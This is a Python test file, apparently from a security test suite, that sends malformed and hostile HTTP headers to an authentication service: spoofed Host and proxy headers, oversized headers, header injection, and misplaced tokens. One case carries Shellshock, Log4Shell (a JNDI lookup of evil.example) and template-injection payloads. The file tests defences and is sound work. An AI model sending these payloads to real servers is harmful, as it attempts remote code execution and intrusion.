"""Header lines: Host, limits, malformed lines, credentials, what proxies add, what browsers ask."""

from tests.attack.case import HOST, MARKER, Ask, Case, any_of

_REFUSED = any_of(400)
_WRONG_HOST = any_of(400, 421)
_401 = any_of(401)
_200 = any_of(200)
_OWN = "<<attacker.access>>"


def _raw(name: str, *lines: bytes, statuses: frozenset[int] = _REFUSED, **more: object) -> Case:
    """A GET of /user with these header lines and no others."""
    return Case(name, b"\r\n".join([b"GET /user HTTP/1.1", *lines, b"", b""]), statuses, **more)  # type: ignore[arg-type]


def _with(name: str, *lines: bytes, statuses: frozenset[int] = _REFUSED, **more: object) -> Case:
    """The same, with the right Host first."""
    return _raw(name, f"Host: {HOST}".encode(), *lines, statuses=statuses, **more)


def _told(name: str, *headers: str, statuses: frozenset[int] = _200, **more: object) -> Case:
    """A good GET of /user that says something more."""
    ask = Ask("GET", "/user", headers=headers, bearer=_OWN)
    return Case(name, ask, statuses, may_say=True, **more)  # type: ignore[arg-type]


_HOSTS = (  # A035, A094
    _raw("no Host", statuses=_WRONG_HOST),
    _raw("two Hosts that agree", f"Host: {HOST}".encode(), f"Host: {HOST}".encode(), statuses=_WRONG_HOST,
         mended=_401),
    _raw("two Hosts that differ", f"Host: {HOST}".encode(), b"Host: evil.example", statuses=_WRONG_HOST),
    _raw("an empty Host", b"Host:", statuses=_WRONG_HOST),
    *(
        _raw(f"Host: {host}", f"Host: {host}".encode(), statuses=_WRONG_HOST,
             mended=_401 if host.startswith(f"{HOST}:") else frozenset())
        for host in (
            "evil.example", "a?b", "a/b", "a#b", "a b", f"x@{HOST}", f"{HOST}@evil.example",
            f"{HOST}:80:80", f"{HOST}:x", f"{HOST}.evil.example", f"evil-{HOST}", "[::1", "[::1]x", "a,b",
            f"{HOST}, evil.example", "%65vil.example", "..", "-", "http://" + HOST, "\\evil", "0x7f000001",
        )
    ),
    _raw("a Host in another alphabet", "Host: аuth.example.com".encode(), statuses=_WRONG_HOST),
    _raw("a Host of 5000 letters", b"Host: " + b"a" * 5000, statuses=_WRONG_HOST),
    _raw("a Host with a tab", f"Host: {HOST}\tx".encode(), statuses=_WRONG_HOST),
    _raw("a Host with an ESC", b"Host: a\x1b[2Jb", statuses=_WRONG_HOST),
    Case("a wrong Host on a path that is not guarded", Ask("GET", "/problems", host="evil.example"),
         _WRONG_HOST),
    Case("a wrong Host on the express lane", Ask("POST", "/refresh_jwt", b"{}", host="evil.example"),
         _WRONG_HOST),
    Case("a wrong Host with a good token", Ask("GET", "/user", bearer=_OWN, host="evil.example"), _WRONG_HOST),
    Case("a Host in capital letters is the same host", Ask("GET", "/user", host=HOST.upper()), _401),
)  # fmt: skip

_LIMITS = (  # A093
    _with("17 KiB of headers", *(b"X-%d: " % n + b"x" * 1000 for n in range(17)), statuses=any_of(431),
          closes=True, mended=any_of(400, 413)),
    _with("one header of 17 KiB", b"X-Long: " + b"x" * 17_408, statuses=any_of(431), closes=True,
          mended=any_of(400)),
    _with("a header's name of 17 KiB", b"X" * 17_408 + b": x", statuses=any_of(431), closes=True,
          mended=any_of(400)),
    _with("101 header lines", *(b"X-%d: x" % n for n in range(101)), statuses=any_of(431), closes=True,
          mended=any_of(400, 401)),
    _with("10 000 header lines", *(b"a:" for _ in range(10_000)), statuses=any_of(431), closes=True,
          may_hang_up=True, mended=any_of(400)),
    _with("1 MiB of headers", *(b"X-%d: " % n + b"x" * 1000 for n in range(1024)), statuses=any_of(431),
          closes=True, may_hang_up=True, mended=any_of(400)),
    _with("30 MB of headers", *(b"X-%d: " % n + b"x" * 30_000 for n in range(1000)), statuses=any_of(431),
          closes=True, may_hang_up=True, mended=any_of(400)),
    _with("a cookie of 20 KB", b"Cookie: a=" + b"x" * 20_000, statuses=any_of(431), closes=True,
          mended=any_of(400)),
    _with("90 harmless header lines", *(b"X-%d: x" % n for n in range(90)), statuses=_401),
)  # fmt: skip

_MALFORMED = (  # A098
    _with("a line without a colon", b"nothing here"),
    _with("a line without a name", b": x"),
    _with("a space before the colon", b"X-Name : x"),
    _with("a tab before the colon", b"X-Name\t: x"),
    _with("a space in a name", b"X Name: x"),
    _with("a NUL in a name", b"X-\0Name: x"),
    _with("a NUL in a value", b"X-Name: a\0b"),
    _with("a carriage return in a value", b"X-Name: a\rb"),
    _with("a bare line feed in a value", b"X-Name: a\nX-Injected: b", mended=_401),
    _with("a folded line", b"X-Name: a\r\n b", mended=_401),
    _with("a line folded with a tab", b"X-Name: a\r\n\tb", mended=_401),
    _raw("a first line that is folded", b" X-Name: a", f"Host: {HOST}".encode()),
    _with("a name with a bracket", b"X[0]: a", mended=_401),
    _with("a name in quotes", b'"X": a', mended=_401),
    _with("a name in UTF-8", "Ü: a".encode(), mended=_401),
    _with("a name with a slash", b"X/Y: a", mended=_401),
    _with("a DEL in a value", b"X-Name: a\x7fb", statuses=any_of(400, 401)),
    _with("bytes beyond ASCII in a value", b"X-Name: \xff\xfe\x80", statuses=any_of(400, 401)),
)

_CREDENTIALS = (  # A084, A085
    *(
        _with(f"Authorization: {value[:24]}", f"Authorization: {value}".encode(), statuses=_401)
        for value in (
            "", "Bearer", "Bearer ", "Bearer a b", "Bearer a,b", 'Bearer "x"', "Basic YWRhOng=", "Digest x",
            "Negotiate x", "bearerx", "Bearer\ta", "Bearer: a", "Token a", "Bearer \u00e9",
        )
    ),
    _with("a bearer of 12 000 letters", b"Authorization: Bearer " + b"x" * 12_000, statuses=_401,
          mended=any_of(400, 431)),
    _with("a bearer of 12 000 dots", b"Authorization: Bearer " + b"." * 12_000, statuses=_401,
          mended=any_of(400, 431)),
    _with("the good token twice", *([b"Authorization: Bearer <<attacker.access>>"] * 2), statuses=any_of(400, 401)),
    _with("the good token after a bad one", b"Authorization: Bearer x",
          b"Authorization: Bearer <<attacker.access>>", statuses=any_of(400, 401)),
    _with("two schemes in one header", b"Authorization: Basic x, Bearer <<attacker.access>>", statuses=_401),
    Case("the token in the query", Ask("GET", "/user?access_token=<<attacker.access>>"), _401),
    Case("the token in the path", Ask("GET", "/user/<<stray.access>>"), any_of(404)),  # A101
    Case("the token as the id of a session", Ask("DELETE", "/sessions/<<stray.access>>", bearer=_OWN),
         any_of(404)),  # A101
    Case("the token as the code of a problem", Ask("GET", "/problems/<<stray.refresh>>"), any_of(404)),
    Case("the token in a cookie", Ask(headers=("Cookie: access_token=<<attacker.access>>",)), _401),
    Case("the token in the form", Ask("GET", "/user", b"access_token=<<attacker.access>>",
         media_type="application/x-www-form-urlencoded"), _401),
    Case("the token as JSON", Ask("GET", "/user", b'{"access_token": "<<attacker.access>>"}'), _401),
    Case("the token as a proxy's", Ask(headers=("Proxy-Authorization: Bearer <<attacker.access>>",)), _401),
    Case("the token in X-Authorization", Ask(headers=("X-Authorization: Bearer <<attacker.access>>",)), _401),
)  # fmt: skip

_PROXIES = (  # A025, A094, A095
    Case("X-Original-URL does not choose the path", Ask(headers=("X-Original-URL: /livez",)), _401),
    Case("X-Rewrite-URL does not choose the path", Ask(headers=("X-Rewrite-URL: /livez",)), _401),
    Case("X-Forwarded-Prefix does not choose the path", Ask(headers=("X-Forwarded-Prefix: /livez",)), _401),
    _told("X-Forwarded-Host changes nothing", "X-Forwarded-Host: evil.example"),
    _told("X-Host changes nothing", "X-Host: evil.example"),
    _told("Forwarded changes nothing", "Forwarded: for=1.2.3.4;host=evil.example;proto=https"),
    _told("X-Forwarded-Proto changes nothing", "X-Forwarded-Proto: javascript"),
    _told("a scheme of many letters", "X-Forwarded-Proto: " + "h" * 2000),
    *(
        Case(f"{name}: {value} does not say where a login comes from",
             Ask("POST", "/login", b'{"username": "attacker", "password": "<<attacker.password>>"}',
                 headers=(f"{name}: {value}",)),
             _200, may_change=frozenset({"session", "sessions"}), then="the login is from this machine")
        for name, value in (
            ("X-Forwarded-For", "203.0.113.66"), ("X-Forwarded-For", "203.0.113.66, 127.0.0.1"),
            ("X-Forwarded-For", '"><script>'), ("X-Forwarded-For", "::ffff:203.0.113.66"),
            ("X-Real-IP", "203.0.113.66"), ("True-Client-IP", "203.0.113.66"),
            ("CF-Connecting-IP", "203.0.113.66"), ("Forwarded", "for=203.0.113.66"),
        )
    ),
    Case("hop-by-hop headers name those that count",
         Ask(headers=("Connection: close, Authorization, X-Forwarded-For, Host",), bearer=_OWN),
         any_of(200, 401, 400), may_say=True),
    Case("the id of a request cannot be chosen", Ask(headers=(f"X-Request-Id: {MARKER}",)), _401),
    Case("a traceparent is not repeated", Ask(headers=(f"traceparent: 00-{MARKER}-{MARKER}-01",)), _401),
)  # fmt: skip

_ORIGINS = tuple(  # A090
    Case(f"Origin: {origin} {method} {path}",
         Ask(method, path, b"{}" if method == "POST" else None, headers=(
             f"Origin: {origin}", "Access-Control-Request-Method: POST",
             "Access-Control-Request-Headers: authorization, content-type")),
         statuses, then="no other site may read it")
    for origin in ("https://evil.example", "null", f"https://{HOST}.evil.example", f"http://{HOST}:8443")
    for method, path, statuses in (
        ("OPTIONS", "/login", any_of(200, 204, 400, 403, 405)), ("POST", "/refresh_jwt", any_of(422, 403)),
        ("GET", "/user", any_of(401, 403)),
    )
)  # fmt: skip

_OTHERS = (
    Case("an upgrade to WebSocket", Ask(headers=(
        "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        "Sec-WebSocket-Version: 13")), any_of(400, 401, 404, 426)),
    Case("an upgrade to HTTP/2 in clear", Ask(headers=(
        "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA")),
        any_of(400, 401)),
    Case("an unknown expectation", Ask("POST", "/login", b"{}", headers=("Expect: 200-ok",)),
         any_of(417, 422, 400)),
    Case("a range of a page", Ask("GET", "/problems", headers=("Range: bytes=0-0,1-1,2-2",)), any_of(200)),
    Case("a condition that is not one", Ask("GET", "/.well-known/jwks.json", headers=('If-None-Match: W/"x", *',)),
         any_of(200, 304)),
    Case("1000 languages and types", Ask("GET", "/problems", headers=(
        "Accept: " + ",".join(f"a/{n};q=0.{n % 1000}" for n in range(600)),)), any_of(200)),
    Case("weights that are no numbers", Ask("GET", "/problems", headers=(
        "Accept: text/html;q=1e9,*/*;q=-1,text/html;q=٣,;;;,=",)), any_of(200)),
    Case("an Accept that wants what there is not", Ask(headers=(f"Accept: {MARKER}/{MARKER}",)), _401),
    Case("an ESC in the user agent", Ask(headers=("User-Agent: \x1b]0;owned\x07\x1b[31m",)),  # A102
         any_of(400, 401)),
    Case("direction marks and line ends in the user agent",  # A102
         Ask("POST", "/login", b'{"username": "attacker", "password": "<<attacker.password>>"}',
             headers=('User-Agent: \u202e\u2028{"level": "error"}%0a\\n',)),
         any_of(200, 400), may_change=frozenset({"session", "sessions"})),
    Case("a user agent of 6000 letters",
         Ask("POST", "/login", b'{"username": "attacker", "password": "<<attacker.password>>"}',
             headers=("User-Agent: " + "x" * 6000,)),
         _200, may_change=frozenset({"session", "sessions"})),
    Case("shell code in every header that is logged anywhere", Ask(headers=(
        "User-Agent: () { :;}; /bin/false", "Referer: ${jndi:ldap://evil.example/x}", "Cookie: () { :;}; x",
        "Accept-Language: {{7*7}}")), _401),
)  # fmt: skip

CASES = (*_HOSTS, *_LIMITS, *_MALFORMED, *_CREDENTIALS, *_PROXIES, *_ORIGINS, *_OTHERS)
